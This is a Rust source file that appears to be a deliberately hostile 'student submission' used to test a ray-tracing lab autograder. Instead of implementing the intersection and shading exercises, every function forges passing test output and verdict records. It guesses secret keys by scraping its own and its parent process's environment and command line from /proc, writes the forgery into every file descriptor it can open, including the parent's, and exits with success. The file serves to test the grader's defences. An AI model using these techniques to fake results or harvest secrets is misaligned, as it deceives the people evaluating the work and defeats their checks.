//! Hostile submission `forged_output`: every function forges the grader's evidence of a pass and
//! then ends the test process with `exit(0)`. It prints look-alike libtest text (`test
//! exercise_2_1_intersect_plane ... ok`, `test result: ok. 1 passed; 0 failed`, `passed: full
//! marks`) and verdict records (`RAYLAB-VERDICT <key> {"passed":true}`, with all-zero keys and
//! with every token it can find in its own and its parent's environment and command line) to
//! stdout and stderr, and writes the same into every descriptor it can open for writing:
//! `/proc/self/fd/3..16`, `/dev/fd/3..16`, every entry of `/proc/self/fd`, and its parent's
//! `/proc/PPID/fd/3..16`.
//!
//! The grader must fail every exercise (0 of 14 points): nothing the student's code can print or
//! write counts as a verdict. Each exercise's reason says that the check "did not complete".

use std::fs::{self, OpenOptions};
use std::io::Write;

use contracts::glam::Vec3;
use contracts::lab02::{Intersection, LightSample, Shading, SurfaceHit, TriangleHit};
use contracts::math::Ray;
use contracts::scene::{DirectionalLight, Plane, PointLight, Sphere};

/// Every test of lab 02's checks, with its exercise and points.
const TESTS: [(&str, &str, u32); 6] = [
    ("exercise_2_1_intersect_plane", "2.1", 2),
    ("exercise_2_2_intersect_triangle", "2.2", 3),
    ("exercise_2_3_intersect_sphere", "2.3", 3),
    ("exercise_2_4_sample_point_light", "2.4", 2),
    ("exercise_2_5_sample_directional_light", "2.5", 1),
    ("exercise_2_6_shade_lambertian", "2.6", 3),
];

/// Words of at least 16 letters, digits, `-` or `_` in `text`: candidates for a secret key.
fn tokens(text: &str, out: &mut Vec<String>) {
    for word in text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_')) {
        if word.len() >= 16 && out.len() < 200 && !out.iter().any(|w| w == word) {
            out.push(word.to_string());
        }
    }
}

/// Everything that might be the key of a verdict record: zeros, and the words of the
/// environment and command line of this process and of its parent.
fn candidate_keys() -> Vec<String> {
    let mut keys = vec!["0".repeat(16), "0".repeat(32), "0".repeat(64)];
    for (name, value) in std::env::vars_os() {
        tokens(&name.to_string_lossy(), &mut keys);
        tokens(&value.to_string_lossy(), &mut keys);
    }
    let parent = std::os::unix::process::parent_id();
    for file in [
        "/proc/self/environ".to_string(),
        "/proc/self/cmdline".to_string(),
        format!("/proc/{parent}/environ"),
        format!("/proc/{parent}/cmdline"),
    ] {
        if let Ok(bytes) = fs::read(&file) {
            tokens(
                &String::from_utf8_lossy(&bytes).replace('\0', " "),
                &mut keys,
            );
        }
    }
    keys
}

/// The forged text: libtest's report of a passing test and verdict records of a pass, for every
/// test and every candidate key.
fn forgery() -> String {
    let mut text = String::new();
    for (test, _, _) in TESTS {
        text.push_str(&format!(
            "\nrunning 1 test\ntest {test} ... ok\n\ntest result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 5 filtered out; finished in 0.01s\n\n"
        ));
    }
    text.push_str("passed: full marks\n");
    for key in candidate_keys() {
        text.push_str(&format!("RAYLAB-VERDICT {key} {{\"passed\":true}}\n"));
        for (test, id, points) in TESTS {
            text.push_str(&format!(
                "RAYLAB-VERDICT {key} {{\"test\":\"{test}\",\"exercise\":\"{id}\",\"passed\":true,\"score\":{points}}}\n"
            ));
        }
    }
    text
}

/// Writes the forgery everywhere it can, then leaves with a successful status.
fn forge() -> ! {
    let text = forgery();
    print!("{text}");
    let _ = std::io::stdout().flush();
    eprint!("{text}");
    let mut places: Vec<String> = Vec::new();
    for fd in 3..16 {
        places.push(format!("/proc/self/fd/{fd}"));
        places.push(format!("/dev/fd/{fd}"));
    }
    if let Ok(entries) = fs::read_dir("/proc/self/fd") {
        for entry in entries.flatten() {
            places.push(entry.path().to_string_lossy().into_owned());
        }
    }
    let parent = std::os::unix::process::parent_id();
    for fd in 3..16 {
        places.push(format!("/proc/{parent}/fd/{fd}"));
    }
    for place in places {
        if let Ok(mut file) = OpenOptions::new().append(true).open(&place) {
            let _ = file.write_all(text.as_bytes());
            let _ = file.flush();
        }
    }
    std::process::exit(0)
}

/// Forges a pass instead of answering.
#[derive(Clone, Copy, Debug, Default)]
pub struct Student;

impl Intersection for Student {
    fn intersect_plane(&self, _ray: &Ray, _plane: &Plane) -> Option<SurfaceHit> {
        forge()
    }

    fn intersect_triangle(
        &self,
        _ray: &Ray,
        _v0: Vec3,
        _v1: Vec3,
        _v2: Vec3,
    ) -> Option<TriangleHit> {
        forge()
    }

    fn intersect_sphere(&self, _ray: &Ray, _sphere: &Sphere) -> Option<SurfaceHit> {
        forge()
    }
}

impl Shading for Student {
    fn sample_point_light(&self, _light: &PointLight, _position: Vec3) -> LightSample {
        forge()
    }

    fn sample_directional_light(&self, _light: &DirectionalLight, _position: Vec3) -> LightSample {
        forge()
    }

    fn shade_lambertian(&self, _rho_d: Vec3, _normal: Vec3, _lights: &[LightSample]) -> Vec3 {
        forge()
    }
}
